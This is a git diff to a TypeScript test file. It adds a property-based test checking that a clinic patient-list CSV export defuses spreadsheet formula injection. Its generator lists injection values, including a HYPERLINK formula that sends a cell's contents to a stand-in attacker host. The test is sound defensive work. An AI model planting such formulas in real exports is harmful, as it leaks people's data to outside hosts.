@@ -1,5 +1,7 @@
 import { createHash } from 'node:crypto';
 import { expect, it } from '@jest/globals';
+import { parse } from 'csv-parse/sync';
+import { array, assert, constantFrom, oneof, property, string } from 'fast-check';
 import { ListDigest } from './list-digest.js';
 import { csvOfListLine, listLineOf, PatientsCsv, patientsHeading } from './patients-csv.js';
 
@@ -35,3 +37,15 @@ it('as CSV is the same lines again', async () => {
   expect(csvOfListLine(`${lines[3]}\tk1,k9\tone`)).toBe('c3\tx,p3,displayed,"identity,lab",2026,2026,3,"k1,k9"\n');
   expect(listLineOf(['c3\tx', 'p3', 'displayed', 'identity,lab', '2026', '2026', '3', 'k1,k9'])).toBe(`${lines[3]}\n`);
 });
+
+it('computes nothing in a spreadsheet, whatever a clinic is called, and is the same lines again', () => {
+  const name = oneof(constantFrom('=HYPERLINK("http://evil.example?"&B2)', '+1', '-2+3', '@SUM(A1)', "'=1", "''@x", '\\t=1', '=', "'", ''), array(constantFrom('=', "'", '+', '-', '@', '\\t', '\\r', 'a', '1', ' ', ',', '"'), { maxLength: 6 }).map((all) => all.join('')), string().map((text) => text.replaceAll(/[\\\t\n\r\b\f\0']/g, '')));
+  assert(
+    property(name, (clinic) => {
+      const line = [clinic.replaceAll("'", "\\'"), 'p', 'displayed', 'identity', '2026', '2026', '1', 'k1'].join('\t');
+      const [cells = []] = parse(csvOfListLine(line)) as string[][];
+      expect(cells[0]).not.toMatch(/^[=+\-@\t\r]/);
+      expect(listLineOf(cells)).toBe(`${line.split('\t').slice(0, 7).join('\t')}\n`);
+    }),
+  );
+}); // prettier-ignore
